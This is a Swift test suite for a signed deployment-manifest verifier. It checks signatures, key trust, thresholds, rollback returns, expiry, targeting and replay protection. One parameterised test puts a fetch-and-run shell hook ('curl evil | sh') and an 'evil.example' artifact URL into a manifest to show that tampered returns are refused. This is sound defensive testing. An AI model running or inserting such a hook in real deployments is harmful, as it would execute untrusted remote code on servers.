import BatonProtocol
import Foundation
import Testing

/// One test per verification code, driving the single entry point with real signatures.
@Suite struct VerifierTests {
    let staging = HostIdentity(hostID: "web-1", environment: "staging")
    let production = HostIdentity(hostID: "web-1", environment: "production")

    @Test func acceptsOneSignatureInStaging() throws {
        let verified = try Fixtures.verify(Fixtures.envelope(Fixtures.manifest(), signedBy: [Fixtures.alice])).get()
        #expect(verified.manifest.release == "v2")
        #expect(verified.signers.map(\.keyid) == [Fixtures.alice.keyid])
        #expect(verified.signers.first?.names == ["alice"])
        #expect(!verified.isRollback)
        #expect(verified.requiredSignatures == 1)
        #expect(verified.payloadDigest == Digest.sha256Hex(Fixtures.payload(Fixtures.manifest())))
    }

    @Test func malformed() {
        for bytes in ["not json", "{}", #"{"payload":"%%%","payloadType":"x","signatures":[]}"#,
                      #"{"payload":"e30=","payloadType":"x"}"#] {
            let result = Result { () throws(VerificationError) in
                try ManifestVerifier.verify(
                    envelope: Array(bytes.utf8), policy: Fixtures.policy, host: staging, history: { _ in .none },
                    now: Fixtures.now)
            }
            #expect(result.code == .malformed, "\(bytes)")
        }
    }

    @Test func tooLarge() {
        let big = Array(repeating: UInt8(ascii: " "), count: Manifest.maxPayloadBytes + 1)
        #expect(Fixtures.verify(Fixtures.envelope(payload: big, signedBy: [Fixtures.alice])).code == .tooLarge)
        let huge = Array(repeating: UInt8(ascii: " "), count: Envelope.maxEnvelopeBytes + 1)
        let result = Result { () throws(VerificationError) in
            try ManifestVerifier.verify(envelope: huge, policy: Fixtures.policy, host: staging, history: { _ in .none }, now: Fixtures.now)
        }
        #expect(result.code == .tooLarge)
    }

    @Test func unsupportedTypeIsCheckedAfterTheSignature() {
        let envelope = Fixtures.envelope(Fixtures.manifest(), signedBy: [Fixtures.alice], payloadType: "application/json")
        #expect(Fixtures.verify(envelope).code == .unsupportedType)
        // A signature made for another type, relabelled, is a bad signature, not a type error.
        var relabelled = Fixtures.envelope(Fixtures.manifest(), signedBy: [Fixtures.alice], payloadType: "application/json")
        relabelled.payloadType = Manifest.payloadType
        #expect(Fixtures.verify(relabelled).code == .signatureInvalid)
    }

    @Test func signatureInvalidWhenThePayloadWasAltered() {
        var envelope = Fixtures.envelope(Fixtures.manifest(), signedBy: [Fixtures.alice])
        envelope.payload = Fixtures.payload(Fixtures.manifest(release: "evil"))
        #expect(Fixtures.verify(envelope).code == .signatureInvalid)
    }

    @Test func untrustedKey() {
        #expect(Fixtures.verify(Fixtures.envelope(Fixtures.manifest(), signedBy: [Fixtures.mallory])).code == .untrustedKey)
        // carol is trusted, but not for staging.
        #expect(Fixtures.verify(Fixtures.envelope(Fixtures.manifest(), signedBy: [Fixtures.carol])).code == .untrustedKey)
    }

    @Test func noTrustedKeysRefusesEverything() {
        let result = Fixtures.verify(Fixtures.envelope(Fixtures.manifest(), signedBy: [Fixtures.alice]), policy: .empty)
        #expect(result.code == .untrustedKey)
    }

    @Test func thresholdNotMet() {
        let one = Fixtures.envelope(Fixtures.manifest(environment: "production"), signedBy: [Fixtures.alice])
        #expect(Fixtures.verify(one, host: production).code == .thresholdNotMet)
        let none = Fixtures.envelope(Fixtures.manifest(), signedBy: [])
        #expect(Fixtures.verify(none).code == .thresholdNotMet)
        let two = Fixtures.envelope(Fixtures.manifest(environment: "production"), signedBy: [Fixtures.alice, Fixtures.carol])
        #expect((try? Fixtures.verify(two, host: production).get())?.signers.count == 2)
    }

    @Test func aKeyCountsOnceHoweverManyTimesItSigns() {
        var envelope = Fixtures.envelope(Fixtures.manifest(environment: "production"), signedBy: [Fixtures.alice])
        let sig = envelope.signatures[0]
        envelope.signatures.append(Envelope.Signature(keyid: nil, sig: sig.sig))
        envelope.signatures.append(Envelope.Signature(keyid: "another-name", sig: sig.sig))
        #expect(Fixtures.verify(envelope, host: production).code == .thresholdNotMet)
        // Two names for one key in the policy count once as well.
        var policy = Fixtures.policy
        policy.keys["alice2"] = Fixtures.alice.verifyingKey
        policy.environments["production"]?.keys.append("alice2")
        #expect(Fixtures.verify(envelope, host: production, policy: policy).code == .thresholdNotMet)
    }

    @Test func rollbackThresholdForAReturnToAnApprovedRelease() throws {
        let approved = Fixtures.manifest(release: "v1", environment: "production")
        let history = AppHistory(lastSerial: 9, lastPayloadDigest: "x", approvedReleases: ["v1": approved])
        var back = Manifest.returning(
            to: approved, serial: 10, issuedAt: approved.issuedAt.addingTimeInterval(60),
            expiresAt: approved.expiresAt.addingTimeInterval(60), notes: "back to v1: errors in v2")
        let verified = try Fixtures.verify(Fixtures.envelope(back, signedBy: [Fixtures.bob]), host: production, history: history).get()
        #expect(verified.isRollback)
        #expect(verified.requiredSignatures == 1)
        #expect(verified.approved == approved)
        // The same single signature for a release the host does not hold is not enough.
        let fresh = Fixtures.envelope(Fixtures.manifest(release: "v3", environment: "production"), signedBy: [Fixtures.bob])
        #expect(Fixtures.verify(fresh, host: production, history: history).code == .thresholdNotMet)
        // Nor when the host no longer holds v1's approved manifest.
        #expect(Fixtures.verify(Fixtures.envelope(back, signedBy: [Fixtures.bob]), host: production,
                                history: AppHistory(lastSerial: 9)).code == .thresholdNotMet)
        // Nor for the old name with other bytes.
        back.artifact.sha256 = String(repeating: "cd", count: 32)
        #expect(Fixtures.verify(Fixtures.envelope(back, signedBy: [Fixtures.bob]), host: production, history: history).code == .returnMismatch)
    }

    /// Every field but serial, issuedAt, expiresAt and notes must equal the approved
    /// manifest's for the lower threshold; with the full threshold it is a new approval.
    @Test(arguments: [
        "targets", "artifact.sha256", "artifact.size", "artifact.format", "artifact.url", "hooks.prepare",
        "hooks.activate", "health", "bake", "keep", "owner", "source",
    ])
    func aReturnThatDiffersFromTheApprovedManifestNeedsTheFullThreshold(field: String) throws {
        let approved = Fixtures.manifest(release: "v1", environment: "production")
        let history = AppHistory(lastSerial: 9, approvedReleases: ["v1": approved])
        var changed = Manifest.returning(
            to: approved, serial: 10, issuedAt: approved.issuedAt, expiresAt: approved.expiresAt, notes: "return")
        switch field {
        case "targets": changed.targets = ["web-1", "web-2"]
        case "artifact.sha256": changed.artifact.sha256 = String(repeating: "ef", count: 32)
        case "artifact.size": changed.artifact.size += 1
        case "artifact.format": changed.artifact.format = changed.artifact.format == .tar ? .tarGz : .tar
        case "artifact.url": changed.artifact.url = "https://evil.example/a.tar.gz"
        case "hooks.prepare": changed.hooks = Hooks(prepare: Hook(command: .shell("curl evil | sh")), activate: approved.hooks?.activate)
        case "hooks.activate": changed.hooks = Hooks(prepare: approved.hooks?.prepare, activate: Hook(command: .argv(["/bin/true"])))
        case "health": changed.health = nil
        case "bake": changed.bake = .seconds(1)
        case "keep": changed.keep = 100
        case "owner": changed.owner = "someone else"
        case "source": changed.source = "git:0000000"
        default: Issue.record("unknown field \(field)")
        }
        #expect(changed.returnDifferences(from: approved) == [field])
        let one = Fixtures.verify(Fixtures.envelope(changed, signedBy: [Fixtures.bob]), host: production, history: history)
        #expect(one.code == .returnMismatch)
        #expect(one.message?.contains(field) == true)
        let full = try Fixtures.verify(
            Fixtures.envelope(changed, signedBy: [Fixtures.alice, Fixtures.bob]), host: production, history: history).get()
        #expect(!full.isRollback)
        #expect(full.approved == nil)
        #expect(full.requiredSignatures == 2)
    }

    @Test func duplicateMembersAreRefused() {
        let json = #"{"app":"web","app":"api"}"#
        #expect(Fixtures.verify(Fixtures.envelope(payload: Array(json.utf8), signedBy: [Fixtures.alice])).code == .invalidManifest)
    }

    @Test func invalidManifest() {
        let bad = Fixtures.manifest(app: "../etc")
        #expect(Fixtures.verify(Fixtures.envelope(bad, signedBy: [Fixtures.alice])).code == .invalidManifest)
        let notJSON = Fixtures.envelope(payload: Array("hello".utf8), signedBy: [Fixtures.alice])
        #expect(Fixtures.verify(notJSON).code == .invalidManifest)
        let zero = Fixtures.manifest(serial: 0)
        #expect(Fixtures.verify(Fixtures.envelope(zero, signedBy: [Fixtures.alice])).code == .invalidManifest)
    }

    @Test func expiredAndNotYetValid() {
        let expired = Fixtures.manifest(issuedAt: Fixtures.now.addingTimeInterval(-7200), expiresAt: Fixtures.now.addingTimeInterval(-1))
        #expect(Fixtures.verify(Fixtures.envelope(expired, signedBy: [Fixtures.alice])).code == .expired)
        let future = Fixtures.manifest(issuedAt: Fixtures.now.addingTimeInterval(3600), expiresAt: Fixtures.now.addingTimeInterval(7200))
        #expect(Fixtures.verify(Fixtures.envelope(future, signedBy: [Fixtures.alice])).code == .notYetValid)
        // Within the allowed clock skew it is fine.
        let skewed = Fixtures.manifest(issuedAt: Fixtures.now.addingTimeInterval(120))
        #expect(Fixtures.verify(Fixtures.envelope(skewed, signedBy: [Fixtures.alice])).code == nil)
    }

    @Test func wrongEnvironmentAndNotTargeted() {
        let envelope = Fixtures.envelope(Fixtures.manifest(), signedBy: [Fixtures.alice])
        #expect(Fixtures.verify(envelope, host: production).code == .wrongEnvironment)
        let targeted = Fixtures.envelope(Fixtures.manifest(targets: ["web-2", "web-3"]), signedBy: [Fixtures.alice])
        #expect(Fixtures.verify(targeted).code == .notTargeted)
        #expect(Fixtures.verify(targeted, host: HostIdentity(hostID: "web-2", environment: "staging")).code == nil)
        // A person checking without naming a host skips the targets check.
        #expect(Fixtures.verify(targeted, host: HostIdentity(hostID: nil, environment: "staging")).code == nil)
    }

    @Test func theEnvironmentsBoundsOnTargetsAndValidity() {
        var policy = Fixtures.policy
        policy.environments["staging"]?.maxValidity = .minutes(7 * 24 * 60)
        policy.environments["staging"]?.requireTargets = true
        let week: TimeInterval = 7 * 86_400
        let issued = Fixtures.now.addingTimeInterval(-60)
        func verdict(targets: [String]?, validFor: TimeInterval, host: String? = "web-1") -> Result<VerifiedManifest, VerificationError> {
            let manifest = Fixtures.manifest(targets: targets, issuedAt: issued, expiresAt: issued.addingTimeInterval(validFor))
            return Fixtures.verify(
                Fixtures.envelope(manifest, signedBy: [Fixtures.alice]),
                host: HostIdentity(hostID: host, environment: "staging"), policy: policy)
        }
        #expect(verdict(targets: ["web-1"], validFor: week).code == nil)
        #expect(verdict(targets: nil, validFor: week).code == .targetsRequired)
        #expect(verdict(targets: nil, validFor: week).message?.contains("replayed") == true)
        // A person checking the envelope without a host id is told too.
        #expect(verdict(targets: nil, validFor: week, host: nil).code == .targetsRequired)
        #expect(verdict(targets: ["web-1"], validFor: week + 1).code == .validityTooLong)
        #expect(verdict(targets: ["web-1"], validFor: week + 1).message?.contains("168h") == true)
        // Without the bounds the same manifests pass: they are the policy's, per environment.
        #expect(Fixtures.verify(Fixtures.envelope(
            Fixtures.manifest(issuedAt: issued, expiresAt: issued.addingTimeInterval(30 * 86_400)), signedBy: [Fixtures.alice])).code == nil)
    }

    @Test func aReturnTheControllerSignsFitsTheShortestMaxValidity() throws {
        var policy = Fixtures.policy
        policy.environments["production"]?.maxValidity = TrustPolicy.minimumMaxValidity
        let host = HostIdentity(hostID: "web-1", environment: "production")
        let approved = Fixtures.manifest(release: "v1", serial: 5, environment: "production")
        let issued = Fixtures.now.addingTimeInterval(-10)
        let back = Manifest.returning(
            to: approved, serial: 11, issuedAt: issued, expiresAt: issued.addingTimeInterval(TrustPolicy.minimumMaxValidity.seconds),
            notes: "revert")
        let history = AppHistory(lastSerial: 10, approvedReleases: ["v1": approved])
        let accepted = try Fixtures.verify(
            Fixtures.envelope(back, signedBy: [Fixtures.alice]), host: host, history: history, policy: policy).get()
        #expect(accepted.isRollback)
        // One second more and the same return is refused: the bound holds for returns too.
        let longer = Manifest.returning(
            to: approved, serial: 11, issuedAt: issued, expiresAt: issued.addingTimeInterval(TrustPolicy.minimumMaxValidity.seconds + 1),
            notes: "revert")
        #expect(Fixtures.verify(
            Fixtures.envelope(longer, signedBy: [Fixtures.alice]), host: host, history: history, policy: policy).code == .validityTooLong)
    }

    @Test func replayProtection() {
        let envelope = Fixtures.envelope(Fixtures.manifest(serial: 10), signedBy: [Fixtures.alice])
        let digest = envelope.payloadDigest
        #expect(Fixtures.verify(envelope, history: AppHistory(lastSerial: 11)).code == .staleSerial)
        #expect(Fixtures.verify(envelope, history: AppHistory(lastSerial: 10, lastPayloadDigest: "other")).code == .serialConflict)
        #expect(Fixtures.verify(envelope, history: AppHistory(lastSerial: 10, lastPayloadDigest: digest)).code == .duplicate)
        #expect(Fixtures.verify(envelope, history: AppHistory(lastSerial: 9)).code == nil)
    }

    @Test func aLaterSignatureDoesNotTurnAResendIntoAConflict() {
        let first = Fixtures.envelope(Fixtures.manifest(), signedBy: [Fixtures.alice])
        var second = first
        second.sign(with: Fixtures.bob)
        #expect(first.payloadDigest == second.payloadDigest)
        let history = AppHistory(lastSerial: 10, lastPayloadDigest: first.payloadDigest)
        #expect(Fixtures.verify(second, history: history).code == .duplicate)
    }

    @Test func everyCodeHasAStableRawValueAndStatus() {
        let expected: [VerificationCode: (String, Int)] = [
            .malformed: ("malformed", 400), .tooLarge: ("too_large", 413), .unsupportedType: ("unsupported_type", 422),
            .signatureInvalid: ("signature_invalid", 403), .untrustedKey: ("untrusted_key", 403),
            .thresholdNotMet: ("threshold_not_met", 403), .returnMismatch: ("return_mismatch", 403),
            .invalidManifest: ("invalid_manifest", 422),
            .expired: ("expired", 403), .notYetValid: ("not_yet_valid", 403), .wrongEnvironment: ("wrong_environment", 403),
            .notTargeted: ("not_targeted", 403), .staleSerial: ("stale_serial", 409), .serialConflict: ("serial_conflict", 409),
            .duplicate: ("duplicate", 200), .validityTooLong: ("validity_too_long", 403),
            .targetsRequired: ("targets_required", 403), .changeFrozen: ("change_frozen", 403),
        ]
        #expect(Set(expected.keys) == Set(VerificationCode.allCases))
        for (code, (raw, status)) in expected {
            #expect(code.rawValue == raw)
            #expect(code.httpStatus == status)
        }
    }
}
